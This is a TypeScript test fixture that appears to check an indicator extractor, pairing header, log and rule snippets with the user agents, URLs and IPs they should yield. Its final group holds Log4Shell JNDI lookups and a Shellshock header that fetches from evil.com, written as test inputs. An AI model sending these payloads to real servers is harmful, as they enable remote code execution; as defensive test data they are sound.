import type { Table } from './sentence.ts';

/** User agents by form, by label and in logs. */
export const USER_AGENTS: Table = {
  'user agents': [
    [
      'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
      'user-agent Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    ],
    ['with Mozilla/4.0 (compatible; MSIE 6.0) as agent', 'user-agent Mozilla/4.0 (compatible; MSIE 6.0)'],
    [
      'mozilla/5.0 (windows nt 6.1) gecko firefox/11.0 Mozilla/4.0 (compatible; MSIE 6.0)',
      'user-agent mozilla/5.0 (windows nt 6.1) gecko firefox/11.0',
      'user-agent Mozilla/4.0 (compatible; MSIE 6.0)',
    ],
    ['by Dalvik/2.1.0 (Linux; U; Android 9; X Build/P.1) at', 'user-agent Dalvik/2.1.0 (Linux; U; Android 9; X Build/P.1)'],
    ['the Dalvik VM'],
  ],
  'user agents of words with capitals': [
    ['uses the static User-Agent \u2018Evil Gull Explorer\u2019: then', 'user-agent Evil Gull Explorer'],
    ['the User-Agent \u2018Client Hints\u2019 and a custom User-Agent "header of"'],
  ],
  'user agents behind words and in quotes': [
    ['sets the User-Agent header to "Evil/9.6", or User-Agent set to Evil/9.7', 'user-agent Evil/9.6', 'user-agent Evil/9.7'],
    ['the User-Agent string "Evil Gull" and the User-Agent "EvilGull" of it', 'user-agent Evil Gull', 'user-agent EvilGull'],
    ['content:"User-Agent|3a 20|Evil/9.5|0d 0a|"; http_header', 'user-agent Evil/9.5'],
    ['the User-Agent header to evil.com/1.php, User-Agent like "x"', 'url evil.com/1.php'],
  ],
  'user agents that share a label': [
    ['User agents: "Evil/1.1 (x)", "Evil/1.2" and Evil/1.3', 'user-agent Evil/1.1 (x)', 'user-agent Evil/1.2', 'user-agent Evil/1.3'],
    ['User-Agents:\n- Evil/1.1 (x)\n- python-requests/2.31', 'user-agent Evil/1.1 (x)', 'user-agent python-requests/2.31'],
    ['User-Agent: Evil/1.1\nEvil/1.2', 'user-agent Evil/1.1'],
    ['User agents: Evil/1.1, evil.com/1.php', 'user-agent Evil/1.1', 'url evil.com/1.php'],
  ],
  'user agents by options of commands': [
    ['curl --user-agent "Evil/7.0" x, iwr -UserAgent \'Evil Gull\' x', 'user-agent Evil/7.0', 'user-agent Evil Gull'],
    ['wget -U "Evil/7.1" http://evil.com, curl -U "jane:x" http://evil.com', 'user-agent Evil/7.1', 'url http://evil.com'],
    ['iwr -UserAgent $ua -Uri http://evil.com', 'url http://evil.com'],
  ],
  'user agents by a short label': [
    ['the UA string "WinHTTP Loader/1.0" is in it', 'user-agent WinHTTP Loader/1.0'],
    ['the UA "chrome", and UA "a/b"'],
  ],
  'user agents by a field in a path of fields': [
    ['http.user_agent = "EvilBot/1.0" or user_agent.original:"Evil2/1.0"', 'user-agent EvilBot/1.0', 'user-agent Evil2/1.0'],
    ['req.user_agent is set'],
  ],
  'user agents in logs of IIS and in texts without blanks': [
    ['443 - 203.0.113.7 Mozilla/5.0+(Windows+NT+10.0;+Win64) - 200', 'ipv4 203.0.113.7', 'user-agent Mozilla/5.0 (Windows NT 10.0; Win64)'],
    ['Mozilla/5.0+(compatible;+Evil/2.1;++http://evil.com/) 200', 'user-agent Mozilla/5.0 (compatible; Evil/2.1; +http://evil.com/)'],
    ['User-Agent: Mozilla/5.0 (X11; Linux x86_64)该字符串', 'user-agent Mozilla/5.0 (X11; Linux x86_64)'],
    ['User-Agent：Mozilla/5.0 (Windows) Chrome/41.0，端口8080', 'user-agent Mozilla/5.0 (Windows) Chrome/41.0'],
    ['其User-Agent为Mozilla/4.0 (compatible; MSIE 6.0)，', 'user-agent Mozilla/4.0 (compatible; MSIE 6.0)'],
    ['请求头User-Agent为curl/7.68.0的请求', 'user-agent curl/7.68.0'],
    ['该User-Agent的请求'],
  ],
  'user agents beside other fields': [
    ['User agents: python-requests/2.25.1; x', 'user-agent python-requests/2.25.1'],
    ['User-Agent: curl/7.29.0 X-Api-Version: y', 'user-agent curl/7.29.0'],
    [
      '2022-07-21 02:12:11 W3SVC1 10.1.1.20 POST /a - 443 - 203.0.113.7 curl/8.1.2 - 200 0 0 93',
      'ipv4 10.1.1.20',
      'ipv4 203.0.113.7',
      'user-agent curl/8.1.2',
    ],
    ['install curl/8.1.2 - 3 times'],
  ],
  'backslashes that end a user agent': [
    ['User-Agent: worm_1\\PC\\undefined\\\\YES\\FALSE\\\nHost: x', 'user-agent worm_1\\PC\\undefined\\\\YES\\FALSE\\'],
    ['User-Agent: curl/8.0 \\\nHost: x', 'user-agent curl/8.0'],
  ],
  'commands that attacks send for a user agent': [
    ['GET / HTTP/1.1\nUser-Agent: \u0024{jndi:ldap://198.51.100.7:1389/a}', 'url ldap://198.51.100.7:1389/a'],
    [
      '203.0.113.9 - - [10/Dec/2021:10:10:10 +0000] "GET / HTTP/1.1" 200 612 "-" "\u0024{jndi:ldap://evil.com/a}"',
      'ipv4 203.0.113.9',
      'url ldap://evil.com/a',
    ],
    ['User-Agent: () { :;}; wget http://evil.com/x', 'url http://evil.com/x'],
    [
      'User-Agent: Mozilla/5.0 (compatible; Bot/2.1; +http://evil.com/bot.html)',
      'user-agent Mozilla/5.0 (compatible; Bot/2.1; +http://evil.com/bot.html)',
    ],
  ],
};
